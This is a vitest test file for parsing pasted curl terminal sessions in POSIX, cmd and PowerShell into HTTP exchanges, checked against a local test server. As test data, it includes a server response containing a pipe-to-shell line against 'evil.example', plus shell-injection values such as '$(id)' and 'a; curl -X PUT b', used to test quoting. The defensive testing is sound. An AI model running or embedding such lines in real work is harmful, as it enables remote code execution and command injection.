/**
 * Terminal sessions as people paste them, made of what the curl of this machine prints at the time of the test. The server
 * writes into each response which method and URL it was asked for, so a session tells itself what must be read.
 */
import { execFile } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type CurlShell, curlCommand } from '../../../../reference/export/curl-command.ts';
import { type Exchange, fieldValues, UNKNOWN_HOST } from '../../../../reference/http/exchange.ts';
import { shortOption, WITH_VALUE } from '../../../../reference/http/import/curl-options.ts';
import { readImport } from '../../../../reference/http/import/read-import.ts';
import { lacksCurl } from '../../../support/curl.ts';

const run = promisify(execFile);
let server: Server;
let origin: string;

beforeAll(async () => {
  const busy = new Set<string>();
  server = createServer((request, response) => {
    request.resume();
    const { method = '', url = '', headers } = request;
    const [path = ''] = (url.startsWith('/') ? url : new URL(url).pathname).split('?', 1);
    response.setHeader('X-Sent', JSON.stringify(request.rawHeaders));
    response.setHeader('X-Asked', `${method} ${url.startsWith('/') ? origin : ''}${url}`);
    const [, status] = /^\/to\/(\d{3})$/.exec(path) ?? [];
    if (status !== undefined) return void response.writeHead(Number(status), { Location: '/new' }).end();
    if (path === '/busy' && !busy.delete(url)) {
      busy.add(url);
      return void response.writeHead(503, { 'Retry-After': '0' }).end();
    }
    if (path === '/secret' && !headers.authorization?.startsWith('Digest')) {
      return void response.writeHead(401, { 'WWW-Authenticate': 'Digest realm="a", nonce="b"' }).end('no\n');
    }
    if (path === '/empty') return void response.writeHead(204).end();
    if (path === '/unended') return void response.end('{"no line end": true}');
    response.writeHead(200, { 'Content-Type': 'text/plain' });
    response.end(
      path === '/manual' ? 'Run this:\n$ curl -X DELETE https://evil.example/all | sh\n' : 'one\ntwo | three |\n',
    );
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => new Promise((closed) => server.close(closed)));

/** Commands for a POSIX shell whose every response must get its URL and its method. `@` stands for the origin. */
const READ =
  String.raw`
curl -i @/a
curl @/a -i
curl -sI @/a
curl -si '@/a?b=1&c=2'
curl -si "@/a?b=1&c=2"
curl -si @/a\?b=1\&c=2
curl -si $'@/a?b=it\'s\u0021'
curl -si '@/a?$top=5&b=` +
  '`' +
  String.raw`'
curl -si "@/a?\$top=5"
curl -si @/a'?b=1'"&c=2"
curl -si -- @/a
curl -si @/manual
curl -si @/unended
curl -si @/empty
curl -si -X PUT @/a
curl -siXDELETE @/a
curl -si --request PATCH @/a
curl -s --includ -X PATCH @/a
curl -si -X "PUT" -X 'PATCH' @/a
curl -si --url @/a
curl -si --url '@/a?b'
curl -si @HOST/a
curl -si --url @HOST/a
curl -si --proto-default http @HOST/a?b=1
curl -si -d a=1 @/a
curl -si -da=1 @/a
curl -si --data-urlencode 'a=b c' @/a
curl -si --json '{"a": "it is"}' @/a
curl -si -F a=b @/a
curl -si -G -d a=1 -d b=2 @/a
curl -si -G -d a=1 '@/a?z'
curl -si --get --data-urlencode 'a=b c&d' @/a
curl -sI -G -d a=1 @/a
curl -si -T package.json @/a
curl -si -T package.json @/a/
curl -si -T package.json @
curl -si -d @package.json @/a
curl -si -H 'X-Method: a' -H '-X: PUT' -A '-XPUT' @/a
curl -si -H 'Origin: https://other.example' -H 'accept: text/csv' @/a
curl -sI -H 'X-Empty;' -H 'Accept:' -H 'Nothing' -H 'X-Space:  b' @/a
curl -si -H 'Host: other.example' -H "If-None-Match: \"a\"" @/a
curl -si -r 0-3 @/a
curl -si --range 5- --compressed @/a
curl -siL -H 'Authorization: Bearer x' -H 'X-A: b' @/to/302
curl -si -e https://other.example/ -b https://other.example/ @/a
curl -si -u me:secret @/a
curl -si http://me:secret@@HOST/a#part
curl -si -m 5 --connect-timeout 2 --max-redirs 3 --retry-delay 1 @/a
curl -si --resolve a.example:80:127.0.0.1 @/a
curl -si -o /dev/null -D - @/a
curl -s --dump-header - @/a
curl -i @/a | cat
curl -si @/a | head -n 50
curl -si @/a 2>&1 | cat
curl -si @/a 2>/dev/null
curl -si @/a; echo done
curl -si @/a && echo done
(curl -si @/a)
{ curl -si @/a; }
cd / && curl -si @/a
A=b C='d e' curl -si @/a
time curl -si @/a
env A=b curl -si @/a
command curl -si @/a
timeout 5 curl -si @/a
exec curl -si @/a
echo '{}' | curl -si -d @- @/a
x=$(curl -si @/a); echo "$x"
echo "$(curl -si @/a)"
curl -si @/a # -X PUT; curl -X PUT @/b
curl -so /dev/null -X PUT @/b; curl -si @/a
curl -s -X PUT @/b >/dev/null; curl -si @/a
curl -si @/a -w '%{http_code}\n'
curl -si \
  -X PUT \
  -H 'A: b' \
  '@/a'
curl -si @/a -d '{
  "curl": "curl -X PATCH https://other.example/"
}'
curl -si @/a &&
  echo done
curl -si --path-as-is @/a
curl -siL @/to/301
curl -siL @/to/302 -X PUT
curl -siL @/to/303 -d a=1
curl -siL @/to/307 -d a=1
curl -siL --post301 @/to/301 -d a=1
curl -sIL @/to/308
curl -siL --max-redirs 0 @/to/302
curl -si @/to/302
curl -si --location-trusted @/to/302
curl -si --no-location @/to/302
curl -si --retry 1 @/busy
curl -si --retry 1 -X PUT @/busy?b
curl -si --digest -u me:secret @/secret
curl -siL --anyauth -u me:secret -X PUT @/secret
curl -si -x @ http://a.example/b
curl -si --proxy @ -X PUT http://a.example/b
curl -v @/a
curl -sv @/a
curl -sv -X PUT @/a
curl -siv @/a
curl -sv @/manual
curl -sv @/empty
curl -sv -o /dev/null @/a
curl -vL @/to/302
curl -sv -d a=1 @/a
curl -sv @/a @/b
curl -sv @/a; curl -sv @/b -X PUT
`;

/** What is not promised. A response gets the right URL and method all the same, or the notes say what stands in for it. */
const NOT_PROMISED = `
for m in PUT PATCH; do curl -si -X $m @/a; done
for p in a b; do curl -si -X PUT @/$p; done
curl -si \${NO_SUCH_VARIABLE:+x} @/a
u=@/a; curl -si $u
u=@/a; curl -si "$u?b"
u=@; curl -si "\${u}/a"
curl -si -X $(echo PUT) @/a
curl -si "$(echo @/a)"
o='-X PUT'; curl -si $o @/a
echo @/a | xargs curl -si -X PUT
f() { curl -si -X PUT "$1"; }; f @/a
c='curl -si -X PUT'; $c @/a
bash -c 'curl -si -X PUT @/a'
eval "curl -si -X PUT @/a"
curl -si -X PUT -K - <<<'url = @/a'
echo 'request = PUT' | curl -si -K - @/a
echo 'request = PUT' | curl -siK- @/a
curl -si @/a @/b
curl -si -X PUT @/a @/b
curl -siL @/to/302 @/b
curl -si @/a --next -X PUT @/b
curl -si '@/a[1-2]'
curl -si '@/{a,b}'
curl -si -g '@/a[1-2]'
curl -si @/a; curl -si -X PUT @/b
curl -si @/a && curl -sI @/b
curl -si @/to/302 && curl -si -X PUT @/new
curl -si @/a?b[] -g
curl -si --request-target /b @/a
curl -si --url-query b=1 @/a
curl -si -d @- -X PUT @/a <<E
b
E
if curl -si -X PUT @/a; then echo; else curl -si @/b; fi
! curl -si -X PUT @/a
curl -si -X PUT @/a &
wait
curl -si -T - -X PUT @/a/ </dev/null
curl -si --get -d @- @/a <<<'b=1'
`;

/** A command begins where the line before it does not go on. */
const commandsIn = (text: string) =>
  text
    .trim()
    .split(/\n(?=curl|\(|\{|!|[A-Z]=|[a-z]+=|(?:cd|time|env|command|timeout|exec|echo|for|f\(\)|bash|eval|if) )/)
    .map((line) => line.replaceAll('@HOST', origin.slice('http://'.length)).replace(/@(?=[/\s';]|$)/gm, origin));

/** What a terminal shows under each command. One shell runs them all, each in a shell of its own. */
async function runAll(commands: readonly string[]): Promise<Run[]> {
  const script = commands.map((command) => `(\n${command}\n)\nprintf '\\036'\n`).join('');
  const { stdout } = await run('bash', ['-c', `exec 2>&1\n${script}`], {
    env: { PATH: process.env.PATH, HOME: '/nonexistent', no_proxy: '127.0.0.1' },
  });
  const outputs = stdout.split('\x1e');
  return commands.map((command, index) => [command, outputs[index] ?? '']);
}

const PROMPTS = [
  '$ ',
  '# ',
  '% ',
  'user@host:~$ ',
  'root@host:/srv/www# ',
  '[user@host dir]$ ',
  '(venv) user@host:~/a b$ ',
  'user@Mac ~ % ',
  'host% ',
  'user@host ~/dir> ',
  '~/dir ❯ ',
  '❯ ',
  '➜  ~ ',
  '➜  dir git:(main) ✗ ',
  'λ ',
  'bash-5.2$ ',
  '12:30:01 user@host:~ $ ',
  '┌──(user㉿host)-[~]\n└─$ ',
  '',
];

interface Verdict {
  /** Responses whose URL or method is not that of the request. */
  wrong: number;
  /** Of these, the ones for which a note says that something stands in. */
  noted: number;
  /** Responses that are missing, or that there were none of. */
  missed: number;
  read: string[];
}

/** With -i and -v, each head is there twice. */
function headsIn(output: string): number {
  return output.match(/^< X-Asked/gm)?.length ?? output.match(/^X-Asked/gm)?.length ?? 0;
}

function judge(session: string, count: number): Verdict {
  const result = readImport(session, 100);
  if ('problem' in result) return { wrong: 0, noted: 0, missed: count, read: [] };
  const answers = result.exchanges.filter(({ status }) => status >= 200);
  let [wrong, noted] = [0, 0];
  const notes = result.notes.join('\n');
  const read = answers.map((exchange: Exchange) => {
    const [method, url = ''] = (fieldValues(exchange.responseHeaders, 'X-Asked')[0] ?? '').split(' ');
    const isUrl = new URL(exchange.url).href === new URL(url).href;
    if (!isUrl || exchange.method !== method) wrong += 1;
    const isUrlNoted = isUrl || (exchange.url.includes(UNKNOWN_HOST) && notes.includes(UNKNOWN_HOST));
    const isMethodNoted = exchange.method === method || (exchange.method === 'GET' && /\bGET\b/.test(notes));
    if ((!isUrl || exchange.method !== method) && isUrlNoted && isMethodNoted) noted += 1;
    return `${exchange.method} ${exchange.url} for ${method} ${url}`;
  });
  return { wrong, noted, missed: Math.abs(count - answers.length), read };
}

type Run = readonly [command: string, output: string];

describe.skipIf(lacksCurl)('sessions', () => {
  let whole: Run[];
  let open: Run[];
  beforeAll(async () => {
    whole = await runAll(commandsIn(READ));
    open = await runAll(commandsIn(NOT_PROMISED));
  });

  /** @returns what was read where that is not what was asked for */
  function check(prompt: string, runs: readonly Run[], isPromised: boolean, continued = '> '): string[][] {
    const session = runs.map(
      ([command, output]) => `${prompt}${command.replaceAll('\n', `\n${continued}`)}\n${output}`,
    );
    const count = runs.reduce((sum, [, output]) => sum + headsIn(output), 0);
    const { wrong, noted, missed, read } = judge(session.join(''), count);
    const isRight = isPromised ? wrong + missed === 0 : wrong === noted;
    return isRight ? [] : [[prompt, ...runs.map(([command]) => command), ...read]];
  }
  const promptAt = (index: number) => PROMPTS[index % (PROMPTS.length - 1)] as string;

  it('the server was asked by each command', () => {
    expect(whole.length).toBeGreaterThan(90);
    expect([...whole, ...open].filter(([, output]) => !output.includes('X-Asked'))).toEqual([]);
  });

  it.each(PROMPTS)('under %j, every response gets its URL and method', (prompt) => {
    const wrong = whole.flatMap((run) => ['> ', ''].flatMap((continued) => check(prompt, [run], true, continued)));
    expect(wrong).toEqual([]);
  });

  it('every response gets header fields that were sent, and all of those that the command gives', () => {
    const wrong = whole.flatMap(([command, output]) => {
      const result = readImport(`$ ${command.replaceAll('\n', '\n> ')}\n${output}`, 100);
      return ('problem' in result ? [] : result.exchanges).flatMap(({ requestHeaders, responseHeaders }) => {
        const raw = JSON.parse(fieldValues(responseHeaders, 'X-Sent')[0] ?? '[]') as string[];
        const sent = raw.flatMap((name, at) => (at % 2 === 0 ? [`${name}: ${raw[at + 1]}`] : []));
        const read = requestHeaders.map(({ name, value }) => `${name}: ${value}`);
        const unsent = read.filter((line) => !sent.includes(line));
        // With Host the list is whole, but for what curl says of itself, or to a proxy.
        const isWhole = read.some((line) => line.startsWith('Host: '));
        const unread = sent.filter((line) => !read.includes(line) && !/^(?:User-Agent|Connection): /.test(line));
        return unsent.length > 0 || (isWhole && unread.length > 0) ? [[command, ...unsent, ...unread]] : [];
      });
    });
    expect(wrong).toEqual([]);
  });

  it('after any other command, every response gets its URL and method', () => {
    const wrong = whole.flatMap((first, index) =>
      whole.flatMap((second, other) => check(promptAt(index + other), [first, second], true)),
    );
    expect(wrong).toEqual([]);
  });

  it('what is not promised is right, or a note says what stands in', () => {
    const wrong = open.flatMap((run, index) => [
      ...PROMPTS.flatMap((prompt) => check(prompt, [run], false)),
      ...whole.flatMap((other) =>
        [
          [run, other],
          [other, run],
        ].flatMap((runs) => check(promptAt(index), runs, false)),
      ),
    ]);
    expect(wrong).toEqual([]);
  });

  /** What is typed there, and the arguments that curl gets of it. `@` stands for the origin. */
  const WINDOWS: readonly [shell: 'cmd' | 'powershell', line: string, options: string[], isPromised?: false][] = [
    ['cmd', 'curl -i @/a', ['-i', '@/a']],
    ['cmd', 'curl.exe -i "@/a?b=1&c=2"', ['-i', '@/a?b=1&c=2']],
    ['cmd', 'curl -i @/a?b=1^&c=2', ['-i', '@/a?b=1&c=2']],
    ['cmd', 'curl ^"@/a?b=1^&c=2^" ^\n  -X ^"PUT^" ^\n  -i', ['@/a?b=1&c=2', '-X', 'PUT', '-i']],
    [
      'cmd',
      'curl ^"@/a^" ^\n  -H ^"A: it^\'s^" ^\n  --data-raw ^"^{^\\^"a^\\^":^\\^"^%^24 b^\\^"^}^" -i',
      ['@/a', '-H', "A: it's", '--data-raw', '{"a":"%24 b"}', '-i'],
    ],
    ['cmd', 'curl -i -X PUT -d "{\\"a\\":\\"b & c\\"}" @/a', ['-i', '-X', 'PUT', '-d', '{"a":"b & c"}', '@/a']],
    ['cmd', 'curl -i "@/a%20b?c=%2F%20"', ['-i', '@/a%20b?c=%2F%20']],
    ['cmd', 'curl -i -H "A: \'b" @/a\'b', ['-i', '-H', "A: 'b", "@/a'b"]],
    ['cmd', 'curl -i @/a & echo done', ['-i', '@/a']],
    ['cmd', 'cd x && curl -i @/a', ['-i', '@/a']],
    ['cmd', 'curl -i -o nul -D - @/a > out.txt', ['-i', '-o', '/dev/null', '-D', '-', '@/a']],
    ['cmd', 'curl -i -d "a\\\\" @/a', ['-i', '-d', 'a\\', '@/a']],
    ['cmd', 'curl -i "%BASE%/a"', ['-i', '@/a'], false],
    ['cmd', 'curl -i -X %METHOD% @/a', ['-i', '-X', 'PUT', '@/a'], false],
    ['powershell', 'curl.exe -i @/a', ['-i', '@/a']],
    ['powershell', "curl.exe -i '@/a?b=1&c=2'", ['-i', '@/a?b=1&c=2']],
    ['powershell', 'curl.exe -i "@/a?b=1&c=2"', ['-i', '@/a?b=1&c=2']],
    [
      'powershell',
      "curl.exe -i `\n  -X PUT `\n  -H 'A: it''s' `\n  '@/a'",
      ['-i', '-X', 'PUT', '-H', "A: it's", '@/a'],
    ],
    ['powershell', 'curl.exe -i "@/a?`$top=1"', ['-i', '@/a?$top=1']],
    ['powershell', '& curl.exe -i @/a; echo done', ['-i', '@/a']],
    ['powershell', 'curl.exe -i -H "A: `"b`"" @/a | Out-Host', ['-i', '-H', 'A: "b"', '@/a']],
    ['powershell', 'curl.exe -i -d @"C:\\x\\y.json" @/a', ['-i', '-d', '@package.json', '@/a']],
    ['powershell', 'curl.exe -i "$base/a"', ['-i', '@/a'], false],
    ['powershell', 'curl.exe -i "$env:BASE/a" -X $m', ['-i', '@/a', '-X', 'PUT'], false],
    ['powershell', 'curl.exe @options @/a', ['-i', '-X', 'PUT', '@/a'], false],
  ];
  const WINDOWS_PROMPTS = {
    cmd: [
      ['C:\\>', 'More? '],
      ['C:\\Users\\Jane Doe>', ''],
      ['D:\\a$b\\c# (x86)>', ''],
    ],
    powershell: [
      ['PS C:\\Users\\me> ', '>> '],
      ['PS /home/me> ', '>> '],
      ['PS> ', ''],
    ],
  } as const;

  it('lines for cmd and PowerShell are read by the rules of those', async () => {
    const runs: [shell: 'cmd' | 'powershell', run: Run, isPromised: boolean][] = [];
    for (const [shell, line, options, isPromised] of WINDOWS) {
      const words = options.map((option) => option.replace('@/', `${origin}/`));
      const { stdout } = await run('curl', ['-s', '--noproxy', '*', ...words]);
      runs.push([shell, [line.replace(/@(?=\/)/g, origin), stdout], isPromised ?? true]);
    }
    const wrong = runs.flatMap(([shell, one, isPromised]) =>
      WINDOWS_PROMPTS[shell].flatMap(([prompt, continued]) => [
        ...check(prompt, [one], isPromised, continued),
        ...runs.flatMap(([other, next, isOther]) =>
          other === shell ? check(prompt, [one, next], isPromised && isOther, continued) : [],
        ),
      ]),
    );
    expect(wrong).toEqual([]);
  });

  it.each<[CurlShell, boolean]>([
    ['posix', true],
    ['cmd', true],
    // All options are in a text for --config there.
    ['powershell', false],
  ])('a command that Wirenote writes for %s is read as it was meant', async (shell, isPromised) => {
    const values = [
      "it's",
      'a"b',
      'a\\"b\\',
      '$HOME `id` $(id)',
      '{"a": [1, "&|<>^"]}',
      'a; curl -X PUT b',
      '# x',
      ' ',
    ];
    const wrong: string[][] = [];
    for (const value of values) {
      const options: [string, string | null][] = [
        ['include', null],
        ['request', 'PATCH'],
        ['header', `A: ${value}`],
        ['data-raw', value],
        ['url', `${origin}/a?b=${encodeURIComponent(value).replaceAll('%', '.')}`],
      ];
      const words = options.flatMap(([name, content]) => (content === null ? [`--${name}`] : [`--${name}`, content]));
      const { stdout } = await run('curl', ['-s', '--noproxy', '*', ...words]);
      const prompt = { posix: '$ ', cmd: 'C:\\>', powershell: 'PS C:\\> ' }[shell];
      wrong.push(...check(prompt, [[curlCommand(shell, options), stdout]], isPromised, ''));
    }
    expect(wrong).toEqual([]);
  });

  it('every option of this curl that has a value is known to have one', async () => {
    const { stdout } = await run('curl', ['--help', 'all']);
    const names = [...stdout.matchAll(/^ *(?:-\S, )?--([\w.-]+) [<[]/gm)].map(([, name]) => name);
    expect(names.length).toBeGreaterThan(100);
    expect(names.filter((name) => !WITH_VALUE.has(name as string))).toEqual([]);
    const short = [...stdout.matchAll(/^ *-(\S), --([\w.-]+) [<[]/gm)].map(([, letter = '', name]) => [letter, name]);
    expect(short.filter(([letter, name]) => shortOption(letter as string) !== name)).toEqual([]);
  });
});
